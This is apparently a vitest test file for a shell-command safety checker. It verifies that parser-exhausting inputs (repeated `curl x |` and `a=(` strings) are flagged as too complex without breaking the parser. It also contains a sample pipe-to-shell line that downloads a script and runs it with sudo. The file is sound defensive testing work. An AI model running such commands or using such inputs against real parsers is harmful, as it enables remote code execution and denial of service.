/**
 * Review finding: hostile shell text exhausted tree-sitter and killed the instruction checker for the process.
 *
 * tree-sitter's error recovery is super-linear: `curl x |` repeated 15,000 times (120 KB, an unfinished pipeline) made
 * the WASM module abort out of memory, which threw a RuntimeError (not a CoreError) and left the shared parser unusable,
 * so every later check in the app failed; `$ ` and `a=(` repeated 3,000 times (9 KB) took over 4 s. Now a region over
 * Limits.inspect.maxParseChars or over the parse budget is reported as a high `too-complex` finding (fail closed:
 * what was not parsed was not checked), and the parser keeps working.
 */
import { readFileSync } from 'node:fs'
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import { createShellParser } from '../../main/core/inspect/shell-parser'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import { loadShellParser, shellParserWasmPaths } from '../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

describe('review: shell parser exhaustion', () => {
  describe('when a command region is an endless unfinished pipeline', () => {
    it('returns dangerous with too-complex and the parser still works afterwards', async () => {
      const r = await inspectText('curl x |'.repeat(15_000), { parser })
      expect(r.verdict).toBe('dangerous')
      expect(r.findings.map((f) => f.rule)).toContain('too-complex')
      const next = await inspectText('curl -s https://fix.example.org/a | sudo bash', { parser })
      expect(next.findings.map((f) => f.rule)).toContain('pipe-to-shell')
    })
  })

  describe('when parsing a region outlasts the budget', () => {
    it('throws INSPECT_TOO_COMPLEX from parse, and the checker reports too-complex', async () => {
      const paths = shellParserWasmPaths()
      let t = 0
      // A clock that jumps 10 s per reading: the first progress callback is over any budget.
      const slow = await createShellParser(
        {
          runtime: new Uint8Array(readFileSync(paths.runtime)),
          bash: new Uint8Array(readFileSync(paths.bash)),
        },
        { budgetMs: 1_000, now: () => (t += 10_000) },
      )
      const text = '$ ' + 'a=('.repeat(2_000)
      expect(() => slow.parse(text)).toThrow(expect.objectContaining({ code: 'INSPECT_TOO_COMPLEX' }))
      const r = await inspectText(text, { parser: slow })
      expect(r.findings.map((f) => [f.rule, f.severity])).toContainEqual(['too-complex', 'high'])
    })
  })

  describe('when the same slow text meets the default budget', () => {
    it('returns a report instead of parsing for seconds', async () => {
      const t0 = performance.now()
      const r = await inspectText('$ ' + 'a=('.repeat(6_000), { parser })
      expect(r.verdict).toBe('dangerous')
      expect(performance.now() - t0).toBeLessThan(6_000)
    })
  })
})
